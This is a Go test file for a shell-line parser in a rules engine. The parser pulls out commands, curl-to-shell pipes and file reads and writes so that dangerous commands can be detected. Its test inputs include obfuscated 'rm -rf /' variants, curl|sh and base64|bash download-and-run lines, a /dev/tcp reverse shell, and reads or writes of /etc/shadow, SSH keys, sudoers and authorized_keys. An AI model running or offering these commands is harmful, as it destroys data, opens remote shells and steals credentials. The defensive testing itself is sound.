package commandline_test

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"

	"github.com/tiercel/tiercel/pkg/rules/commandline"
	"github.com/tiercel/tiercel/pkg/rules/field"
)

// TestCommands has lines and the commands that they run.
func TestCommands(t *testing.T) {
	for _, test := range []struct {
		line string
		want []string
	}{
		{"", nil},
		{"ls", []string{"ls"}},
		{"  ls   -la \t /tmp  ", []string{"ls -la /tmp"}},
		{"/bin/rm -rf /", []string{"rm -rf /"}},
		{`r""m -'r'"f" \/`, []string{"rm -rf /"}},
		{`\rm -rf /`, []string{"rm -rf /"}},
		{`$'\x72\155' -rf /`, []string{"rm -rf /"}},
		{`$'\u0072m' x`, []string{"rm x"}},
		{"rm${IFS}-rf$IFS/", []string{"rm -rf /"}},
		{"{rm,-rf,/}", []string{"rm -rf /"}},
		{"cp a{,.bak} b", []string{"cp a a.bak b"}},
		{"echo a{1,2}b{3,4}", []string{"echo a1b3 a1b4 a2b3 a2b4"}},
		{"echo {a} {b", []string{"echo {a} {b"}},
		{"awk '{print $1, $2}' f", []string{"awk {print $1, $2} f"}},
		{"cat /etc/./x/..//shadow", []string{"cat /etc/shadow"}},
		{"ls /a/ ./b//c", []string{"ls /a/ ./b//c"}},
		// What is in quotes or a comment is no command.
		{"grep 'rm -rf /' file", []string{"grep rm -rf / file"}},
		{`echo "curl x | sh"`, []string{"echo curl x | sh"}},
		{"# rm -rf /", nil},
		{"ls # rm -rf /", []string{"ls"}},
		{"echo a#b", []string{"echo a#b"}},
		{"echo rm \\; -rf", []string{"echo rm ; -rf"}},
		// Separators.
		{"a;b&&c||d&e|f", []string{"a", "b", "c", "d", "e", "f"}},
		{"a\nb\r\n c", []string{"a", "b", "c"}},
		{"a \\\n b", []string{"a b"}},
		{"a |& b", []string{"a", "b"}},
		{"a |\n b", []string{"a", "b"}},
		{";;&|a", []string{"a"}},
		// Groups and compounds.
		{"(cd /x; rm y)", []string{"cd /x", "rm y"}},
		{"{ a; b; }", []string{"a", "b"}},
		{"if a; then b; elif c; then d; else e; fi", []string{"a", "b", "c", "d", "e"}},
		{"for i in 1 2 $(seq 3); do a $i; done; b", []string{"seq 3", "a $i", "b"}},
		{"for ((i=0;i<3;i++)); do a; done", []string{"a"}},
		{"while read x; do rm $x; done < list", []string{"read x", "rm $x"}},
		{"case $1 in start) a;; stop|x) b; c;; *) d; esac; e", []string{"a", "b", "c", "d", "e"}},
		{"f() { rm x; }; f", []string{"rm x", "f"}},
		{"function f { rm x; }", []string{"rm x"}},
		{"! a", []string{"a"}},
		{"time a", []string{"a"}},
		{"((x=1))", nil},
		{"[[ -f x && -d y ]] && a", []string{"[[ -f x", "-d y ]]", "a"}},
		{"done; fi", []string{"done", "fi"}},
		{"begin; a; end; b", []string{"a", "b"}},
		// Substitutions.
		{"echo $(curl x)", []string{"curl x", "echo $(curl x)"}},
		{"echo `curl x`", []string{"curl x", "echo `curl x`"}},
		{"echo \"$(curl \"a b\")\"", []string{"curl a b", "echo $(curl \"a b\")"}},
		{"echo '$(curl x)'", []string{"echo $(curl x)"}},
		{"diff <(a) >(b)", []string{"a", "b", "diff <(a) >(b)"}},
		{"echo $((1+2))", []string{"echo $((1+2))"}},
		{"echo `a \\`b\\``", []string{"b", "a `b`", "echo `a `b``"}},
		// Variables that the line sets itself.
		{"X=rm; $X -rf /", []string{"X=rm", "rm -rf /"}},
		{"X=rm Y=2; ${X} -rf $Z", []string{"X=rm", "Y=2", "rm -rf $Z"}},
		{"export A=/; rm $A", []string{"export A=/", "rm /"}},
		{"A=/x/y b", []string{"A=/x/y", "b"}},
		{"set x rm; $x y", []string{"set x rm", "rm y"}},
		{"${x:-rm} a", []string{"rm a"}},
		{"cat $HOME/.ssh/id_rsa ${HOME}/x", []string{"cat ~/.ssh/id_rsa ~/x"}},
		{"ls $PWD", []string{"ls /data"}},
		// Programs that start others.
		{"sudo rm -rf /", []string{"sudo rm -rf /", "rm -rf /"}},
		{"sudo -u root -E A=1 /bin/rm x", []string{"sudo -u root -E A=1 /bin/rm x", "rm x"}},
		{"sudo -uroot rm x", []string{"sudo -uroot rm x", "rm x"}},
		{"env -i A=1 rm x", []string{"env -i A=1 rm x", "rm x"}},
		{"nohup nice -n 5 timeout -k 1 10 rm x", []string{
			"nohup nice -n 5 timeout -k 1 10 rm x", "nice -n 5 timeout -k 1 10 rm x", "timeout -k 1 10 rm x", "rm x",
		}},
		{"busybox rm x", []string{"busybox rm x", "rm x"}},
		{"command -v rm", []string{"command -v rm"}},
		{"command rm x", []string{"command rm x", "rm x"}},
		{"find / -name x -exec rm -rf {} \\; -print", []string{"find / -name x -exec rm -rf {} ; -print", "rm -rf {}"}},
		{"ls | xargs -n 1 rm -f", []string{"ls", "xargs -n 1 rm -f", "rm -f"}},
		{"eval 'rm -rf /'", []string{"eval rm -rf /", "rm -rf /"}},
		{"bash -c 'rm -rf /; ls'", []string{"bash -c rm -rf /; ls", "rm -rf /", "ls"}},
		{"bash -xec \"rm x\" a b", []string{"bash -xec rm x a b", "rm x"}},
		{"bash -o pipefail script.sh -c x", []string{"bash -o pipefail script.sh -c x"}},
		{"su - root -c 'rm x'", []string{"su - root -c rm x", "rm x"}},
		{"ssh -p 22 host 'rm -rf /tmp/x; ls'", []string{"ssh -p 22 host rm -rf /tmp/x; ls", "rm -rf /tmp/x", "ls"}},
		{"kubectl -n x exec -it pod -- sh -c 'rm x'", []string{"kubectl -n x exec -it pod -- sh -c rm x", "sh -c rm x", "rm x"}},
		{"docker exec -it -u 0 web rm x", []string{"docker exec -it -u 0 web rm x", "rm x"}},
		{"docker ps", []string{"docker ps"}},
		{"trap 'rm x' EXIT", []string{"trap rm x EXIT", "rm x"}},
		// What a shell is given to read, where the line says it.
		{"echo rm -rf / | sh", []string{"echo rm -rf /", "sh", "rm -rf /"}},
		{"printf '%s\\n' 'rm x' | bash -s", []string{"printf %s\\n rm x", "bash -s", "rm x"}},
		{"echo " + base64.StdEncoding.EncodeToString([]byte("rm -rf /")) + " | base64 -d | bash", []string{"echo cm0gLXJmIC8=", "base64 -d", "bash", "rm -rf /"}},
		{"bash <<< 'rm x'", []string{"bash", "rm x"}},
		{"base64 -d <<< cm0geA== | sh", []string{"base64 -d", "sh", "rm x"}},
		{"bash <<EOF\nrm x\nEOF\nls", []string{"bash", "rm x", "ls"}},
		{"cat <<EOF\nrm x\nEOF\nls", []string{"cat", "ls"}},
		{"sh <<-'E'\n\trm x\n\tE\nls", []string{"sh", "rm x", "ls"}},
		{"cat <<EOF | sh\nrm x\nEOF\nls", []string{"cat", "sh", "rm x", "ls"}},
		{"rm -rf *", []string{"rm -rf *", "rm -rf /data/*"}},
		{"cd / && rm -rf .", []string{"cd /", "rm -rf .", "rm -rf /"}},
		{"rm -rf ../* x", []string{"rm -rf ../* x", "rm -rf /* x"}},
		{"rm -rf .x", []string{"rm -rf .x"}},
		{"echo -e '\\x72m x' | sh", []string{"echo -e \\x72m x", "sh", "rm x"}},
		// Other scripts and odd ends.
		{"grep 한글 파일 | sort", []string{"grep 한글 파일", "sort"}},
		{"echo 'open", []string{"echo open"}},
		{"echo \"open", []string{"echo open"}},
		{"echo $(open", []string{"open", "echo $(open"}},
		{"((", nil},
		{"case x in", nil},
		{"for", nil},
		{"echo \xff\xfe", []string{"echo \uFFFD\uFFFD"}},
		{"echo ${x", []string{"echo ${x"}},
		{"echo $", []string{"echo $"}},
		{"'' a", nil},
	} {
		got := commandline.Parse(test.line, "/data").Commands
		if !slices.Equal(got, test.want) {
			t.Errorf("%q\n got %q\nwant %q", test.line, got, test.want)
		}
	}
}

func TestPipes(t *testing.T) {
	for line, want := range map[string][]string{
		"curl -s x | sh":                               {"curl|sh"},
		"curl x|sudo -E bash -":                        {"curl|bash"},
		"curl x | tee f | /bin/sh -s -- a":             {"curl|tee|sh"},
		"wget -O- x |& env A=1 bash":                   {"wget|bash"},
		"sh -c \"$(curl x)\"":                          {"curl|eval", "curl|sh"},
		"bash <(curl x)":                               {"curl|bash"},
		"bash < <(curl x)":                             {"curl|bash"},
		"eval \"$(curl x)\"":                           {"curl|eval"},
		"eval `curl x`":                                {"curl|eval"},
		"source <(curl x)":                             {"curl|source"},
		". <(curl x)":                                  {"curl|."},
		"bash <<< \"$(curl x)\"":                       {"curl|eval", "curl|bash"},
		"curl x | while read l; do sh -c \"$l\"; done": {"curl|read", "curl|sh"},
		"(curl x; true) | sh":                          {"curl|sh", "true|sh"},
		"echo 'curl x | sh'":                           nil,
		"curl x; sh":                                   nil,
		"curl x || sh":                                 nil,
		"bash -c 'curl x | sh'":                        {"curl|sh"},
		"curl x | sh -c 'cat > f'":                     {"curl|cat"},
		"curl x | xargs sh -c":                         {"curl|sh"},
		"ls | grep x":                                  {"ls|grep"},
		"wget x -O /tmp/a && bash /tmp/a":              {"wget|bash"},
		"curl -fsSLo a.sh x; chmod +x a.sh; ./a.sh":    {"curl|sh"},
		"curl -O https://x/y.sh && sudo sh y.sh":       {"curl|sh"},
		"wget https://x/y.py; python3 y.py":            {"wget|python3"},
		"curl x > f; . ./f":                            {"curl|."},
		"curl x > f; cat f":                            nil,
		"curl x -o ls; ls":                             nil,
		"$(curl x)":                                    {"curl|eval"},
	} {
		if got := commandline.Parse(line, "").Pipes; !slices.Equal(got, want) {
			t.Errorf("%q: %q, want %q", line, got, want)
		}
	}
}

func TestFiles(t *testing.T) {
	for _, test := range []struct{ line, writes, reads string }{
		{"echo x > /etc/passwd", "/etc/passwd", ""},
		{"echo x>>/etc//sudoers.d/../passwd", "/etc/passwd", ""},
		{"echo x > passwd", "/etc/passwd", ""},
		{"cat < shadow > ~/x", "~/x", "/etc/shadow"},
		{"ls 2>/dev/null 2>&1 >&2 &>> all", "/dev/null /etc/all", ""},
		{"echo x | sudo tee -a /etc/hosts", "/etc/hosts", ""},
		{"dd if=/dev/zero of=/dev/sda", "/dev/sda", "/dev/zero"},
		{"cp -a x /etc/cron.d/", "/etc/cron.d", ""},
		{"sed -i s/a/b/ /etc/ssh/sshd_config", "/etc/ssh/sshd_config", ""},
		{"echo '> /etc/passwd'", "", ""},
		{"exec 3<>/dev/tcp/1.2.3.4/80", "/dev/tcp/1.2.3.4/80", "/dev/tcp/1.2.3.4/80"},
		{"bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "/dev/tcp/1.2.3.4/80", ""},
		{"for i in a; do :; done > out", "/etc/out", ""},
		{"{ a; } 2> err", "/etc/err", ""},
		{"echo x > $HOME/.bashrc", "~/.bashrc", ""},
		{"> log", "/etc/log", ""},
		{"cd /var; cd log && > a", "/var/log/a", ""},
		{"cd; cd .ssh; echo x >> authorized_keys", "~/.ssh/authorized_keys", ""},
		{"cd $X; > a", "a", ""},
		{"cd -; > a; cd /x/y; > b", "a /x/y/b", ""},
	} {
		l := commandline.Parse(test.line, "/etc")
		if w, r := strings.Join(l.Writes, " "), strings.Join(l.Reads, " "); w != test.writes || r != test.reads {
			t.Errorf("%q writes %q, reads %q", test.line, w, r)
		}
	}
	if got := commandline.Parse("echo > x", "").Writes; !slices.Equal(got, []string{"x"}) {
		t.Errorf("without a directory: %q", got)
	}
}

func TestField(t *testing.T) {
	l := commandline.Parse("curl x | sh > out < in", "/")
	for id, want := range map[field.ID]string{
		field.ShellCommand: "sh", field.ShellPipe: "", field.ShellWrites: "", field.ShellReads: "", field.ShellLine: "",
	} {
		if got := l.Field(id, 1).Str(); got != want {
			t.Errorf("%s: %q", id, got)
		}
	}
	for id, want := range map[field.ID]string{field.ShellCommand: "curl x", field.ShellPipe: "curl|sh", field.ShellWrites: "/out", field.ShellReads: "/in"} {
		if got := l.Field(id, 0).Str(); got != want {
			t.Errorf("%s: %q", id, got)
		}
	}
	if l.Field(field.ShellCommand, -1).Exists() || l.Field(field.ShellLine, 0).Exists() {
		t.Error("a value that is not there")
	}
}

// hard are lines that would take long, or much, if nothing were bounded.
func hard() map[string]string {
	return map[string]string{
		"parentheses":   strings.Repeat("(", 50000),
		"substitutions": strings.Repeat("$(", 30000),
		"backquotes":    strings.Repeat("`\\", 30000),
		"braces":        strings.Repeat("{a,b}", 10000),
		"doubling":      "a=xx;" + strings.Repeat("a=$a$a;", 5000),
		"groups":        strings.Repeat("(a;b;c;d)|", 5000) + "e",
		"evals":         strings.Repeat("eval ", 10000) + "x",
		"sudos":         strings.Repeat("sudo ", 10000) + "x",
		"shells":        strings.Repeat("sh -c \"", 5000),
		"cases":         strings.Repeat("case x in a) ", 5000),
		"ifs":           strings.Repeat("if ", 20000),
		"quotes":        strings.Repeat("\"$(", 20000),
		"documents":     strings.Repeat("sh <<A\n", 8000),
		"functions":     strings.Repeat("f()", 20000),
		"words":         strings.Repeat("w ", 30000),
		"pipes":         strings.Repeat("a|", 30000),
		"files":         strings.Repeat(">a", 30000),
		"feeds":         "x " + strings.Repeat("<(a)", 10000),
	}
}

func TestWorkIsBounded(t *testing.T) {
	for name, line := range hard() {
		l := commandline.Parse(line, "/")
		size := 0
		for _, list := range [][]string{l.Commands, l.Pipes, l.Writes, l.Reads} {
			for _, text := range list {
				size += len(text)
			}
		}
		if size > 256<<10 {
			t.Errorf("%s: %d bytes", name, size)
		}
	}
}

func FuzzParse(f *testing.F) {
	for _, line := range hard() {
		f.Add(line[:min(len(line), 200)])
	}
	for _, line := range []string{
		"X=rm; $X -rf / | sh <<EOF\nls\nEOF", "case $1 in a|b) c;; esac", "echo `a \"$(b 'c')\"` > $HOME/{x,y}", "sudo -u r bash -xc $'\\x72\\u1234' 2>&1", "한글 | f() { 😀; }",
	} {
		f.Add(line)
	}
	f.Fuzz(func(t *testing.T, line string) {
		l := commandline.Parse(line, "/cwd")
		for _, list := range [][]string{l.Commands, l.Pipes, l.Writes, l.Reads} {
			for _, text := range list {
				if text == "" || strings.ContainsAny(text, "\n\r\t") {
					t.Fatalf("%q gives %q", line, text)
				}
			}
		}
	})
}

func BenchmarkParse(b *testing.B) {
	for name, line := range map[string]string{
		"short": "ls -la /tmp", "long": `curl -fsSL "https://example.org/install.sh" | sudo -E bash -s -- --version "1.2" > /var/log/install.log 2>&1`,
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				commandline.Parse(line, "/root")
			}
		})
	}
	for name, line := range hard() {
		b.Run("hard/"+name, func(b *testing.B) {
			for b.Loop() {
				commandline.Parse(line, "/root")
			}
		})
	}
}
